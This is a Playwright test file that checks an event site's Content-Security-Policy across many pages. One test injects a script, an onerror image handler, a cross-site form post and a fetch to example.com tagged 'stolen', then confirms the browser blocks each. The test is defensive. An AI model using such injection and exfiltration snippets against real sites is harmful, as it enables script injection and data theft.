import type { Page } from "@playwright/test";
import { signIn } from "./world/client.ts";
import { publish } from "./world/events.ts";
import { become } from "./world/people.ts";
import { expect, test } from "./world/test.ts";

/** Writes down what a page's Content-Security-Policy refuses, from its first script on. */
async function watchRefusals(page: Page) {
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      refused.push(`${violatedDirective} ${blockedURI}`);
    });
  });
  return () => page.evaluate(() => Object(window).refused as string[]);
}

test("no page does what its own policy forbids", async ({ world }) => {
  const host = await signIn(world.client, "policyhost@example.in");
  const event = await publish(world.client, host, { title: "Strictly by the policy" });
  const page = await world.visitor();
  const refusals = await watchRefusals(page);
  await become(page, host);
  const paths = [
    "/",
    `/${event.event_slug}`,
    "/create",
    "/bookings",
    "/creator/events",
    `/creator/${host.userId}`,
    `/event/manage/${event.id}`,
    `/scanner/${event.id}`,
    "/profile",
    "/profile/security",
    "/profile/privacy",
    "/login",
    "/privacy-policy",
    "/no-such-event",
    "/api/docs",
  ];
  for (const path of paths) {
    const answer = await page.goto(path);
    await page.waitForLoadState("load");
    const policy = answer?.headers()["content-security-policy"] ?? "";
    expect(policy, path).toMatch(/default-src 'self'|default-src 'none'/);
    expect(/script-src[^;]*'unsafe-(inline|eval)'/.test(policy), path).toBe(false);
    expect(await refusals(), path).toEqual([]);
  }
});

test("a script that somebody smuggles in does not run, and reaches nobody outside", async ({ world }) => {
  // A tab of its own: what the browser refuses is told on the console, and is the point here.
  const page = await (await world.visitor()).context().newPage();
  const refusals = await watchRefusals(page);
  await page.goto("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.smuggled = true";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.smuggled = true");
    image.src = "https://example.com/x.png";
    document.body.append(image);
    const form = Object.assign(document.createElement("form"), { action: "https://example.com/", method: "post" });
    document.body.append(form);
    form.submit();
    return fetch("https://example.com/?stolen").catch(() => undefined);
  });
  for (const directive of ["connect-src", "script-src-elem", "script-src-attr", "img-src", "form-action"]) {
    await expect.poll(refusals).toContainEqual(expect.stringContaining(directive));
  }
  expect(await page.evaluate(() => Object(window).smuggled)).toBeUndefined();
});
